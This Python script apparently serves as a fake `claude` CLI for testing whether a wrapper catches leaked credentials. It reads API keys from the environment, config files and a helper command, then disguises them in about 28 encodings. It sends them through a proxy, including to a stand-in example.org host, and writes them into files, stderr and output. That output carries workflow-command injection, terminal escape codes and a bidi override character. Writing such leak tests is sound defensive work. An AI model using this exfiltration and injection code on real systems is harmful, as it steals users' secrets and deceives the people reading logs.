"""Program that stands in for `claude` and leaks all of its credentials wherever it can.

The first argument is a folder for its state: the credentials of each start, and the number of
starts per kind of credential. Each start uses another encoding.
"""

import base64
import html
import json
import os
import pathlib
import re
import socket
import subprocess
import sys
import textwrap
import urllib.parse
from collections.abc import Callable


def _base64(value: str, before: str = "", altchars: bytes = b"+/") -> str:
    return base64.b64encode(f"{before}{value} and more".encode(), altchars).decode()


def _lines(value: str, width: int, between: str) -> str:
    return between.join(textwrap.wrap(value, width, break_on_hyphens=False))


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "json": lambda value: json.dumps(value).replace("-", "\\u002d"),
    "json in json": lambda value: json.dumps(json.dumps(value).replace("-", "\\u002D")),
    "html": lambda value: html.escape(f"'{value}'").replace("-", "&#45;").replace("a", "&#x61;"),
    "html in html": lambda value: html.escape(value.replace("-", "&#x2D;")),
    "percent": lambda value: value.replace("-", "%2D"),
    "percent in lower case": lambda value: value.replace("-", "%2d").replace("_", "%5f"),
    "all percent": lambda value: "".join(f"%{ord(c):02x}" for c in value),
    "double percent": lambda value: urllib.parse.quote(value.replace("-", "%2D")),
    "html in percent": lambda value: urllib.parse.quote(value.replace("-", "&#45;")),
    "base64": _base64,
    "base64, 1": lambda value: _base64(value, "x"),
    "base64, 2": lambda value: _base64(value, "xx"),
    "base64url": lambda value: _base64(value, "x", b"-_"),
    "basic pair": lambda value: f"Basic {_base64(value, 'user:')}",
    "base64 in lines of 64": lambda value: _lines(_base64(value, "xyz" * 5), 64, "\n"),
    "base64 in lines of 76": lambda value: _lines(_base64(value, "xyz" * 9), 76, "\r\n"),
    "base64 in base64": lambda value: _base64(_base64(value, "x"), "xx"),
    "hex": lambda value: value.encode().hex(),
    "hex in upper case": lambda value: value.encode().hex().upper(),
    "utf-16": lambda value: value.encode("utf-16-le").decode("latin-1"),
    "utf-16 in base64": lambda value: base64.b64encode(value.encode("utf-16-be")).decode(),
    "lines": lambda value: _lines(value, 30, "\n    "),
    "frame": lambda value: "│ " + _lines(value, 40, " │\n│ ") + " │",
    "colours": lambda value: _lines(value, 9, "\x1b[0m\x1b[1;31m"),
    "beginning": lambda value: f"{value[:40]}...",
    "end": lambda value: f"...{value[-20:]}",
    "middle": lambda value: f"...{value[30:60]}...",
}


def find_credentials() -> dict[str, str]:
    """Return the credentials of this process by the kind in their prefix."""
    config = pathlib.Path(os.environ["CLAUDE_CONFIG_DIR"])
    texts = list(os.environ.values())
    for name in (".credentials.json", "settings.json"):
        if (config / name).exists():
            texts.append((config / name).read_text())
            helper = json.loads(texts[-1]).get("apiKeyHelper")
            if helper:
                texts.append(subprocess.check_output(helper, shell=True, text=True))  # noqa: S602
    kinds = re.findall(r"sk-ant-([a-z]+)[0-9]*-[A-Za-z0-9_-]+", "\n".join(texts))
    values = re.findall(r"sk-ant-[a-z]+[0-9]*-[A-Za-z0-9_-]+", "\n".join(texts))
    return dict(zip(kinds, values, strict=True))


def count_start(folder: pathlib.Path, kind: str) -> int:
    """Record a start with this kind of credential; return the number of earlier ones."""
    for number in range(1000):
        try:
            (folder / f"{kind}-{number}").mkdir()
        except FileExistsError:
            continue
        return number
    return 0


def ask(first_line: str, *headers: str) -> None:
    """Send a request to the proxy."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as channel:
        lines = "\r\n".join([first_line, *headers, "connection: close", "", ""])
        channel.sendall(lines.encode("latin-1", "replace"))
        while channel.recv(65536):
            pass


def leak(folder: pathlib.Path) -> None:
    """Leak the credentials: to the backend, into files, and to the user."""
    values = find_credentials()
    kind, value = next(iter(sorted(values.items())), ("", ""))
    number = count_start(folder, kind or "none")
    encode = list(ENCODINGS.values())[number % len(ENCODINGS)]
    (folder / f"{kind}-{number}" / "values").write_text("\n".join(values.values()))
    encoded = " and ".join(map(encode, values.values()))
    line = re.sub(r"[\x00-\x20\x7f-\uffff]", "", encoded)
    ask(f"CONNECT {line[:200]}.example.org:443 HTTP/1.1")
    ask(
        f"POST http://api.anthropic.com/v1/{line}?key={line} HTTP/1.1",
        f"host: {line[:200]}.api.anthropic.com",
        f"authorization: Basic {line}",
        f"x-api-key: {line}",
        f"anthropic-beta: {line}, {value}",
        f"anthropic-version: {line}",
        f"user-agent: claude-cli/1.2.3 {line}",
    )
    home = pathlib.Path(os.environ["HOME"])
    (home / "debug.log").write_text(f"the token: {encoded}")
    (home / line.replace("/", "")[:200]).touch()
    if kind == "jwt":
        ask(
            "GET http://api.anthropic.com/v1/models HTTP/1.1",
            "host: api.anthropic.com",
            f"user-agent: claude-cli/9{line}",
        )
    if kind == "api":
        print(f"fatal: {encoded}", file=sys.stderr)
        sys.exit(3)
    message = f"It says {encoded} there.\n::set-output name=a::{value}\x1b]0;{value}\x07\u202e"
    print(json.dumps({"type": "result", "is_error": True, "result": message}))
    sys.exit(1)


if __name__ == "__main__":
    if "--version" in sys.argv:
        print("1.2.3 (Claude Code)")
    else:
        leak(pathlib.Path(sys.argv[1]))
